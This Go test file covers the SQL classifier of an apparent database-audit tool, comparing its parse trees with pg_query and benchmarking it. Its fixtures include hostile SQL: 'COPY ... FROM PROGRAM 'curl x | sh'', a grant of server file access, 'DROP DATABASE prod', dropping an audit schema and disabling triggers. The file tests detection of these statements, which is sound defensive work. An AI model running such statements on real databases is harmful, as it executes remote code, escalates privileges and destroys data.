package sql

import (
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
	"unsafe"

	pg_query "github.com/pganalyze/pg_query_go/v6"
	"github.com/pganalyze/pg_query_go/v6/parser"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/reflect/protoreflect"

	"github.com/vigil-audit/vigil/internal/classify"
)

// sameTree checks that parseTree gives exactly what pg_query.Parse gives: the
// same tree, or an error with the same message.
func sameTree(t *testing.T, text string) {
	t.Helper()
	want, wantErr := pg_query.Parse(text)
	got, gotErr := parseTree(text)
	if (wantErr == nil) != (gotErr == nil) || wantErr != nil && wantErr.Error() != gotErr.Error() {
		t.Fatalf("parseTree(%.200q): error %v, pg_query.Parse: %v", text, gotErr, wantErr)
	}
	if wantErr == nil && !proto.Equal(got, want) {
		t.Fatalf("parseTree(%.200q): tree differs from pg_query.Parse\n got: %.2000v\nwant: %.2000v", text, got, want)
	}
	if wantErr != nil {
		return
	}
	sameChildren(t, text, want.ProtoReflect())
	// Within its limits, the rewriter itself must take the tree, not the
	// fall-back.
	js, err := parser.ParseToJSON(text)
	if err != nil {
		t.Fatal(err)
	}
	tree, err := decodeTree(js)
	if err == nil && !proto.Equal(tree, want) {
		t.Fatalf("decodeTree(%.200q): tree differs from pg_query.Parse", text)
	}
	if err != nil && len(js) <= maxTreeJSON && jsonDepth(js) <= maxTreeDepth {
		t.Fatalf("decodeTree(%.200q): %v", text, err)
	}
}

var nodeOneof = (&pg_query.Node{}).ProtoReflect().Descriptor().Oneofs().Get(0)

// sameChildren checks, for m and every message below it, that the
// generated appendChildren lists the children protoreflect's Range visits,
// and that nodeInner gives what the Node's oneof holds. The order is not
// compared: Range's is unstable on purpose (protobuf-go swaps two fields,
// depending on the binary), appendChildren's is that of the fields'
// declarations.
func sameChildren(t *testing.T, text string, m protoreflect.Message) {
	t.Helper()
	var want []proto.Message
	m.Range(func(fd protoreflect.FieldDescriptor, v protoreflect.Value) bool {
		if fd.Kind() != protoreflect.MessageKind {
			return true
		}
		if fd.IsList() {
			for i := range v.List().Len() {
				want = append(want, v.List().Get(i).Message().Interface())
			}
		} else {
			want = append(want, v.Message().Interface())
		}
		return true
	})
	got := appendChildren(nil, m.Interface())
	if len(got) != len(want) {
		t.Fatalf("%.200q: %s: appendChildren gives %d children, Range %d", text, m.Descriptor().Name(), len(got), len(want))
	}
	seen := map[proto.Message]int{}
	for _, c := range want {
		seen[c]++
	}
	for i, c := range got {
		if seen[c]--; seen[c] < 0 {
			t.Fatalf("%.200q: %s: child %d (a %T) is not one Range visits", text, m.Descriptor().Name(), i, c)
		}
	}
	if n, ok := m.Interface().(*pg_query.Node); ok {
		var w proto.Message
		if fd := m.WhichOneof(nodeOneof); fd != nil {
			w = m.Get(fd).Message().Interface()
		}
		if nodeInner(n) != w {
			t.Fatalf("%.200q: nodeInner gives %T, the oneof holds %T", text, nodeInner(n), w)
		}
	}
	for _, c := range want {
		sameChildren(t, text, c.ProtoReflect())
	}
}

// jsonDepth returns the deepest nesting of objects in js (strings in the
// parse trees of these tests hold no braces that matter: they only make the
// count larger).
func jsonDepth(js string) int {
	depth, deepest := 0, 0
	for i := 0; i < len(js); i++ {
		switch js[i] {
		case '{':
			depth++
			deepest = max(deepest, depth)
		case '}':
			depth--
		}
	}
	return deepest
}

var treeTexts = []string{
	"",
	"   ",
	";;",
	"SELECT 1",
	"UPDATE accounts SET balance = balance - $1 WHERE id = $2 -- 42",
	"select 1.5, -2, 9223372036854775807, 99999999999999999999, 1e400, 'a\tb\nc\\d\"e', E'\\u00e9\\x41', U&'d\\0061t\\+000061', true, false, null::int, x'1f', b'101'",
	"SELECT 'nul-free \x01\x02\x1f control characters'",
	"SELECT \"quoted \"\"ident\"\"\", $$dollar $tag$ quoted$$, $q$ a ' b $q$",
	"SELECT 'émoji 😀 and 中文', \"ünïcödé\" FROM \"Tâble\"",
	"CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE x'; RETURN 1; END $$",
	"DO $$ BEGIN PERFORM 1; END $$",
	"WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n+1 FROM t WHERE n < 100) SELECT sum(n) FROM t",
	"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED BY SOURCE THEN DELETE",
	"ALTER TABLE users DROP COLUMN email CASCADE; GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC WITH GRANT OPTION",
	"COPY (SELECT * FROM t) TO PROGRAM 'gzip > /tmp/x'",
	"SELECT * FROM a JOIN b USING (id) WHERE a.x IN (1, 2, 3) AND b.y BETWEEN 1 AND 2 ORDER BY 1 DESC NULLS LAST LIMIT 10 FOR UPDATE SKIP LOCKED",
	"CREATE TABLE t (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, v numeric(10,2) DEFAULT 0.5 CHECK (v >= 0)) PARTITION BY RANGE (id)",
	"SELECT interval '1 day', timestamp with time zone '2020-01-01', array[1,2][1], (row(1,2)).f1, x::text[]",
	"NOTIFY chan, 'payload'; LISTEN chan; CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p",
	"SELECT FROM WHERE", // syntax error
	"SELECT 'unterminated",
	"CREATE TABLE (",
	"SELECT " + strings.Repeat("(", 300) + "1" + strings.Repeat(")", 300),
	"SELECT " + strings.Repeat("-", 2000) + "1",
	// Deeper than the rewriter goes, and past the protobuf decoder's limit.
	"SELECT " + strings.Repeat("1+", 150) + "1",
	"SELECT " + strings.Repeat("1+", 5000) + "1",
	"SELECT " + strings.Repeat("ARRAY[", 3000) + "1" + strings.Repeat("]", 3000),
	strings.Repeat("SELECT (", 600) + "1" + strings.Repeat(")", 600),
	// Larger than the rewriter takes.
	"SELECT " + strings.Repeat("a, ", 20000) + "b",
}

func TestParseTreeMatchesParse(t *testing.T) {
	for _, text := range treeTexts {
		sameTree(t, text)
	}
	for _, tc := range cases {
		sameTree(t, tc.sql)
	}
}

// TestParseTreeCorpus compares the trees of PostgreSQL's own SQL files
// (extension scripts, information_schema), statement by statement and whole,
// when a PostgreSQL installation is present.
func TestParseTreeCorpus(t *testing.T) {
	files, _ := filepath.Glob("/usr/share/postgresql/*/extension/*.sql")
	more, _ := filepath.Glob("/usr/share/postgresql/*/*.sql")
	files = append(files, more...)
	if len(files) == 0 {
		t.Skip("no PostgreSQL SQL files under /usr/share/postgresql")
	}
	n := 0
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		text := string(data)
		sameTree(t, text)
		stmts, err := pg_query.SplitWithScanner(text, true)
		if err != nil {
			continue
		}
		for _, s := range stmts {
			sameTree(t, s)
			n++
		}
	}
	t.Logf("%d files, %d statements", len(files), n)
}

func FuzzParseTree(f *testing.F) {
	for _, text := range treeTexts {
		f.Add(text)
	}
	for _, tc := range cases {
		f.Add(tc.sql)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if checkInput(text) != "" {
			return // Classify never parses such text
		}
		sameTree(t, text)
	})
}

func BenchmarkParseTree(b *testing.B) {
	const text = "UPDATE accounts SET balance = balance - $1 WHERE id = $2 -- 42"
	b.Run("pg_query.Parse", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			if _, err := pg_query.Parse(text); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("parseTree", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			if _, err := parseTree(text); err != nil {
				b.Fatal(err)
			}
		}
	})
}

// TestAttrsMatchReflection holds Result.Attrs to classify.Attrs (which is
// held to the JSON form in internal/policy).
func TestAttrsMatchReflection(t *testing.T) {
	texts := append([]string{"SELEC oops", "", strings.Repeat("SELECT (", 600) + "1" + strings.Repeat(")", 600)}, treeTexts...)
	for _, tc := range cases {
		texts = append(texts, tc.sql)
	}
	for _, text := range texts {
		r, err := Classify(text)
		if err != nil {
			t.Fatal(err)
		}
		if got, want := r.Attrs(), classify.Attrs(r); !reflect.DeepEqual(got, want) {
			t.Fatalf("%.100q:\n got %v\nwant %v", text, got, want)
		}
	}
	// Nil lists, as a Result built by hand may have them.
	r := &Result{Statements: []Statement{{Command: "SELECT"}}}
	if got, want := r.Attrs(), classify.Attrs(r); !reflect.DeepEqual(got, want) {
		t.Fatalf("nil lists:\n got %v\nwant %v", got, want)
	}
}

// BenchmarkClassifySteps times each step of classifying a text of a new
// shape, one call at a time, and reports p50 and p99 per step: where the
// cold path's time and its tail go. "classify-same-text" classifies one
// text again and again (no cache here), to tell a tail that comes with new
// texts from one that comes with the work itself.
func BenchmarkClassifySteps(b *testing.B) {
	texts := func(n int) []string {
		out := make([]string, n)
		for i := range out {
			out[i] = fmt.Sprintf("UPDATE accounts SET balance = balance - $1 WHERE id = $2 -- %d", i)
		}
		return out
	}
	report := func(b *testing.B, lat []time.Duration) {
		slices.Sort(lat)
		b.ReportMetric(float64(lat[len(lat)/2].Nanoseconds())/1e3, "p50-µs")
		b.ReportMetric(float64(lat[len(lat)*99/100].Nanoseconds())/1e3, "p99-µs")
	}
	step := func(name string, f func(text string)) {
		b.Run(name, func(b *testing.B) {
			in := texts(b.N)
			lat := make([]time.Duration, b.N)
			b.ResetTimer()
			for i := range b.N {
				t0 := time.Now()
				f(in[i])
				lat[i] = time.Since(t0)
			}
			report(b, lat)
		})
	}
	step("scan-shape", func(text string) { ScanShape(text) })
	step("parse-json", func(text string) { parser.ParseToJSON(text) })
	js, err := parser.ParseToJSON(texts(1)[0])
	if err != nil {
		b.Fatal(err)
	}
	step("decode-tree", func(string) { decodeTree(js) })
	tree, err := decodeTree(js)
	if err != nil {
		b.Fatal(err)
	}
	step("walk", func(text string) {
		w := walker{res: &Result{}}
		w.parsed(tree, text, false, ContextStatement, 0, false)
	})
	step("fingerprint", func(text string) { pg_query.Fingerprint(text) })
	step("normalize", func(text string) { pg_query.Normalize(text) })
	step("classify-new-text", func(text string) { ClassifyShaped(text, ScanShape(text)) })
	b.Run("classify-same-text", func(b *testing.B) {
		text := texts(1)[0]
		lat := make([]time.Duration, b.N)
		for i := range b.N {
			t0 := time.Now()
			Classify(text)
			lat[i] = time.Since(t0)
		}
		report(b, lat)
	})
}

// TestResultOwnsStrings checks that no string of a Result lies in the memory
// of libpg_query's JSON, which the tree's strings share: a cached
// classification would keep the whole JSON alive.
func TestResultOwnsStrings(t *testing.T) {
	texts := []string{
		"UPDATE accounts SET balance = balance - $1 WHERE id = $2",
		"SELECT a.x, lower(b.y) FROM app.accounts a JOIN orders b USING (id)",
		"DROP TABLE app.users, logs CASCADE; GRANT pg_read_server_files TO mallory",
		"COPY t FROM PROGRAM 'curl x | sh'; SET session_replication_role = replica",
		"DROP SCHEMA audit CASCADE; DROP DATABASE prod; DROP ROLE alice",
		"CREATE EXTENSION dblink; ALTER TABLE t DISABLE TRIGGER ALL",
	}
	for _, tc := range cases {
		texts = append(texts, tc.sql)
	}
	total := 0
	for _, text := range texts {
		js, err := parser.ParseToJSON(text)
		if err != nil {
			continue
		}
		tree, err := decodeTree(js)
		if err != nil {
			continue // too deep for the decoder: pg_query.Parse's tree owns its strings
		}
		res := &Result{}
		w := walker{res: res}
		w.parsed(tree, text, false, ContextStatement, 0, false)
		res.aggregate()
		lo := uintptr(unsafe.Pointer(unsafe.StringData(js)))
		hi := lo + uintptr(len(js))
		inJSON := func(s string) bool {
			p := uintptr(unsafe.Pointer(unsafe.StringData(s)))
			return len(s) > 0 && p >= lo && p < hi
		}
		checked := 0
		check := func(what string, l ...string) {
			for _, s := range l {
				checked++
				if inJSON(s) {
					t.Errorf("%q: %s %q shares the parse tree JSON's memory", text, what, s)
				}
			}
		}
		check("result lists", slices.Concat(res.Commands, res.Tables, res.TableNames, res.Functions)...)
		for _, s := range res.Statements {
			check("statement lists", slices.Concat(s.Tables, s.Relations, s.PrivilegeEscalation, s.ServerAccess, s.Functions, s.DynamicSQL, s.SafeguardOff)...)
			check("drop object type", s.DropObjectType)
		}
		total += checked
	}
	if total < 100 {
		t.Fatalf("only %d strings checked", total)
	}
}
